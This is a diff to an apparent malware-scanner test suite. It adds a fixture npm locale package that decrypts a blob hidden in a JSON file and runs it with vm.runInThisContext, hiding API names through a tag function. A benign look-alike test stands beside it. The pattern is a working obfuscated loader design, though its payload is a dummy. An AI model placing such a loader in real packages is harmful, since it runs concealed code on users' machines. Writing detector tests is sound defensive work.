@@ -3075,3 +3075,42 @@ exports.notify = (msg) => execFileSync('osascript', ['-e', 'display dialog ' + J
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('TypeScript-first packages and modern syntax (round 25)', () => {
+  it('a locale pack decrypted at load and run, with the API names built by a tag function over s.raw', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'i18n-messages',
+        version: '1.12.0',
+        type: 'module',
+        exports: { '.': './dist/index.mjs' },
+      }),
+      'dist/locales/en.json': JSON.stringify({
+        errors: { required: 'Required' },
+        __compiled: { iv: 'AAAAAAAAAAAAAAAA', tag: 'AAAAAAAAAAAAAAAAAAAAAA==', d: 'q83vEjRWeJA=' },
+      }),
+      'dist/index.mjs': `import * as c from 'node:crypto';
+import * as vm from 'node:vm';
+import en from './locales/en.json' with { type: 'json' };
+const t = (s, ...v) => s.raw.reduce((a, p, i) => a + p + (v[i] ?? ''), '').replace(/\\s+/g, '');
+export const messages = { en };
+const packed = en.__compiled;
+if (packed?.d) {
+  const dec = c[t\`create \${'Decipher'} iv\`](t\`aes - \${256} - gcm\`, c.createHash('sha256').update('k').digest(), Buffer.from(packed.iv, 'base64'));
+  const code = Buffer.concat([dec.update(Buffer.from(packed.d, 'base64')), dec.final()]).toString('utf8');
+  vm[t\`run In This Context\`](code);
+}`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(threatsOf(found)).toContain('malicious_code');
+  });
+  it('quiet: a tag function over s.raw that dedents a help text, and defaults for values past the end of a list', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'dedent-lite', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const dedent = (s, ...v) => s.raw.reduce((a, p, i) => a + p + (v[i] ?? ''), '').replace(/\\n\\s+/g, '\\n');
+const names = ['build', 'test'];
+module.exports = { help: dedent\`usage: tool \${names[0]} | \${names[1]} | \${names[2] ?? 'lint'}\` };`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
